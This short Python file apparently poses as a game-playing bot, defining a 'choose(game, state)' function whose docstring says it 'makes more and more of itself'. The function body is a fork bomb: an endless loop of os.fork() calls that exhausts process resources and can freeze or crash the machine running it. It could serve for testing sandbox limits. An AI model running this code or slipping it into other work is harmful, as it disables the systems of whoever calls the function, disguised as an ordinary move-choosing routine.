"""Makes more and more of itself."""

import os


def choose(game, state):
    while True:
        os.fork()
